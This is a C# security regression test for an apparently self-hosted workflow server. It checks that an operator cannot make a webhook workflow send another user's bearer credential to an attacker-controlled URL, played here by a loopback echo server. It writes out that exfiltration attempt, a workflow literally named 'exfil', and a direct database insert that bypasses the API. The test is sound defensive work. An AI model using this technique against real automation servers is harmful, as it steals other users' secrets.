using System.Net;
using System.Net.Http.Headers;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json.Nodes;
using ControlTower.Server.Credentials;
using ControlTower.Server.Tests.Infrastructure;
using ControlTower.Server.Tests.Nodes;
using ControlTower.Server.Workflows;
using Microsoft.Data.Sqlite;
using static ControlTower.Server.Tests.Runs.RunApi;

namespace ControlTower.Server.Tests.Security;

/// <summary>
/// Issue 12, finding 1, end to end with real processes: <c>controltower serve</c> as a child process, a victim whose
/// credential holds a bearer secret, an attacking operator, and an echo server on loopback standing for the URL the
/// attacker controls. Before the fix the attacker saved a version of the victim's webhook workflow that sent the
/// victim's credential to the echo server, fired the webhook without a key, and the run (acting as the owner) delivered
/// the secret. Now every route to the secret is closed: saving someone else's workflow is refused, naming the
/// credential in one's own workflow is refused at save, and a version that names it anyway (written past the API)
/// fails when the node runs, because a webhook run acts as the version's author. The secret reaches no one.
/// </summary>
public sealed class CredentialTheftTests : IAsyncLifetime
{
    private static readonly TimeSpan ReadyWithin = TimeSpan.FromSeconds(90);
    private readonly string _secret = $"victim-bearer-{Guid.NewGuid():N}";
    private readonly List<string> _responses = [];
    private string _dataDirectory = null!;
    private LocalHttpServer _echo = null!;
    private LocalHttpServer _victimApi = null!;
    private ControlTowerServerProcess _server = null!;

    public async Task InitializeAsync()
    {
        _dataDirectory = Directory.CreateTempSubdirectory("controltower-theft-").FullName;
        _echo = await LocalHttpServer.StartAsync();
        _victimApi = await LocalHttpServer.StartAsync();
        _server = await ControlTowerServerProcess.StartAsync(_dataDirectory, new Dictionary<string, string?>
        {
            ["HTTP_NODE_ALLOW"] = "127.0.0.1",
            ["ENGINE_POLL_MILLISECONDS"] = "50",
            // Versions written past the API reach starts when the cached route expires (no writer invalidates it).
            ["CACHE_TTL"] = "1",
            ["RATE_LIMIT_REQUESTS_PER_MINUTE"] = "1000000",
        }, ReadyWithin);
    }

    public async Task DisposeAsync()
    {
        _server.Dispose();
        await _echo.DisposeAsync();
        await _victimApi.DisposeAsync();
        SqliteConnection.ClearAllPools();
        Directory.Delete(_dataDirectory, recursive: true);
    }

    [Fact]
    public async Task Webhook_WhenAnOperatorAimsTheVictimsCredentialAtTheirServer_TheSecretNeverArrives()
    {
        var (victim, _) = await UserAsync("victim");
        var (mallory, _) = await UserAsync("mallory");
        using var anonymous = new HttpClient { BaseAddress = _server.BaseAddress };
        var credential = await CreateCredentialAsync(victim);
        var victimWorkflow = await CreateAsync(victim, HookGraph(_victimApi.Url("/echo"), credential), HttpStatusCode.Created);

        // Control: the victim's own webhook run uses the victim's credential, so the harness really can deliver it.
        var control = await FireAsync(anonymous, victimWorkflow);
        Assert.Equal("completed", control.Status());
        Assert.Equal($"Bearer {_secret}", Assert.Single(_victimApi.Requests)["headers"]!["authorization"]!.GetValue<string>());

        // 1. Saving a version of the victim's workflow (pointed at the attacker's server) is refused.
        var hijack = await SendAsync(mallory, HttpMethod.Post, $"/api/workflows/{victimWorkflow}/versions",
            new { graph = HookGraph(_echo.Url("/echo"), credential), message = "just a tweak" });
        Assert.Equal(HttpStatusCode.Forbidden, hijack.Status);
        Assert.Equal(WorkflowErrorCodes.Forbidden, hijack.Body["code"]!.GetValue<string>());

        // 2. Naming the victim's credential in the attacker's own workflow is refused at save, naming the node.
        var own = await SendAsync(mallory, HttpMethod.Post, "/api/workflows", new { name = "exfil", graph = HookGraph(_echo.Url("/echo"), credential) });
        Assert.Equal(HttpStatusCode.BadRequest, own.Status);
        var problem = Assert.Single(own.Body["problems"]!.AsArray())!;
        Assert.Equal(WorkflowErrorCodes.CredentialNotUsable, problem["code"]!.GetValue<string>());
        Assert.Contains("'call'", problem["message"]!.GetValue<string>(), StringComparison.Ordinal);

        // 3. A version naming it anyway, written past the API into the attacker's workflow and into the victim's,
        //    fails when the node runs: a webhook run acts as the version's author, who may not use the credential.
        var malloryWorkflow = await CreateAsync(mallory, HookGraph(_echo.Url("/echo"), credentialId: null), HttpStatusCode.Created);
        WriteVersionPastTheApi(malloryWorkflow, authoredLike: malloryWorkflow, HookGraph(_echo.Url("/echo"), credential));
        WriteVersionPastTheApi(victimWorkflow, authoredLike: malloryWorkflow, HookGraph(_echo.Url("/echo"), credential));
        await Task.Delay(TimeSpan.FromSeconds(1.2)); // CACHE_TTL: the cached routes still name version 1
        var fromOwn = await FireAsync(anonymous, malloryWorkflow);
        var fromVictims = await FireAsync(anonymous, victimWorkflow);

        foreach (var run in new[] { fromOwn, fromVictims })
        {
            Assert.Equal("failed", run.Status());
            Assert.Equal(CredentialErrorCodes.NotFound, run["error"]!["code"]!.GetValue<string>());
            Assert.Equal("call", run["error"]!["node_id"]!.GetValue<string>());
            Assert.Equal("version_author", run["principalSource"]!.GetValue<string>());
        }

        Assert.Empty(_echo.Requests);
        Assert.Equal(0, _echo.Connections);
        await AssertSecretAppearsNowhereAsync([control, fromOwn, fromVictims]);
        var used = await AuditAsync(CredentialVault.UsedAction);
        Assert.Equal(control["id"]!.GetValue<string>(), Assert.Single(used)["data"]!["runId"]!.GetValue<string>());
    }

    private static JsonObject HookGraph(string url, Guid? credentialId)
    {
        var call = new JsonObject { ["method"] = "POST", ["url"] = url, ["body"] = "{'order': input.body}" };
        if (credentialId is { } id)
        {
            call["credentialId"] = id.ToString();
        }

        return Graph([Node("hook", "trigger.webhook", new()), Node("call", "http.request", call)], [Edge("hook", "call")]);
    }

    private async Task<(HttpClient Client, Guid Id)> UserAsync(string name)
    {
        var user = await (await _server.Client.PostAsJsonAsync("/api/users", new { name, role = "operator" })).EnsureSuccessStatusCode()
            .Content.ReadFromJsonAsync<UserDto>();
        var key = await (await _server.Client.PostAsJsonAsync("/api/api-keys", new { name = "key", userId = user!.Id })).EnsureSuccessStatusCode()
            .Content.ReadFromJsonAsync<CreatedKeyDto>();
        var client = new HttpClient { BaseAddress = _server.BaseAddress, Timeout = TimeSpan.FromSeconds(30) };
        client.DefaultRequestHeaders.Authorization = new AuthenticationHeaderValue("Bearer", key!.Key);
        return (client, user.Id);
    }

    private async Task<Guid> CreateCredentialAsync(HttpClient victim)
    {
        var created = await SendAsync(victim, HttpMethod.Post, "/api/credentials", new { name = "payments api", credentialType = "bearer_token", data = new { token = _secret } });
        Assert.Equal(HttpStatusCode.Created, created.Status);
        return created.Body["id"]!.GetValue<Guid>();
    }

    private async Task<Guid> CreateAsync(HttpClient client, JsonObject graph, HttpStatusCode expected)
    {
        var created = await SendAsync(client, HttpMethod.Post, "/api/workflows", new { name = $"hook {Guid.NewGuid():N}", graph });
        Assert.Equal(expected, created.Status);
        return created.Body["workflow"]!["id"]!.GetValue<Guid>();
    }

    private async Task<JsonObject> FireAsync(HttpClient anonymous, Guid workflow)
    {
        using var delivery = await anonymous.PostAsync($"/hooks/{workflow}/hook", new StringContent("{\"rx\":\"RX-1\"}", Encoding.UTF8, "application/json"));
        var body = await delivery.Content.ReadAsStringAsync();
        _responses.Add(body);
        Assert.Equal(HttpStatusCode.Accepted, delivery.StatusCode);
        var run = await WaitForStatusAsync(_server.Client, JsonNode.Parse(body)!["runId"]!.GetValue<Guid>(), "completed", "failed");
        _responses.Add(run.ToJsonString());
        return run;
    }

    private async Task<(HttpStatusCode Status, JsonObject Body)> SendAsync(HttpClient client, HttpMethod method, string path, object body)
    {
        using var request = new HttpRequestMessage(method, path) { Content = JsonContent.Create(body) };
        using var response = await client.SendAsync(request);
        var text = await response.Content.ReadAsStringAsync();
        _responses.Add(text);
        return (response.StatusCode, JsonNode.Parse(text)!.AsObject());
    }

    /// <summary>A new latest version of <paramref name="workflow"/>, authored by whoever wrote version 1 of <paramref name="authoredLike"/>.</summary>
    private void WriteVersionPastTheApi(Guid workflow, Guid authoredLike, JsonObject graph)
    {
        using var db = new SqliteConnection($"Data Source={Path.Combine(_dataDirectory, "controltower.db")};Pooling=False");
        db.Open();
        using var command = db.CreateCommand();
        command.CommandText = """
            INSERT INTO workflow_versions ("WorkflowId", "Version", "Graph", "Author", "AuthorId", "Message", "CreatedAt")
            SELECT v."WorkflowId", v."Version" + 1, $graph, a."Author", a."AuthorId", 'written past the API', v."CreatedAt"
            FROM workflow_versions v, workflow_versions a
            WHERE upper(v."WorkflowId") = upper($workflow) AND v."Version" = 1 AND upper(a."WorkflowId") = upper($author) AND a."Version" = 1;
            UPDATE workflows SET "LatestVersion" = 2 WHERE upper("Id") = upper($workflow);
            """;
        command.Parameters.AddWithValue("$graph", graph.ToJsonString());
        command.Parameters.AddWithValue("$workflow", workflow.ToString());
        command.Parameters.AddWithValue("$author", authoredLike.ToString());
        command.CommandTimeout = 30;
        Assert.Equal(2, command.ExecuteNonQuery());
    }

    private async Task<List<JsonObject>> AuditAsync(string action) =>
        [.. (await _server.Client.GetFromJsonAsync<JsonObject>($"/api/audit?action={action}&limit=100"))!["items"]!.AsArray().Select(i => i!.AsObject())];

    private async Task AssertSecretAppearsNowhereAsync(IEnumerable<JsonObject> runs)
    {
        var seen = new StringBuilder();
        _responses.ForEach(r => seen.AppendLine(r));
        foreach (var run in runs)
        {
            var runId = run["id"]!.GetValue<Guid>();
            seen.AppendLine(await _server.Client.GetStringAsync($"/api/runs/{runId}/events"));
            seen.AppendLine(await _server.Client.GetStringAsync($"/api/runs/{runId}/nodes"));
        }

        seen.AppendLine(await _server.Client.GetStringAsync("/api/audit/export"));
        foreach (var line in _server.Lines)
        {
            seen.AppendLine(line);
        }

        foreach (var request in _echo.Requests)
        {
            seen.AppendLine(request.ToJsonString());
        }

        Assert.DoesNotContain(_secret, seen.ToString(), StringComparison.Ordinal);
    }
}
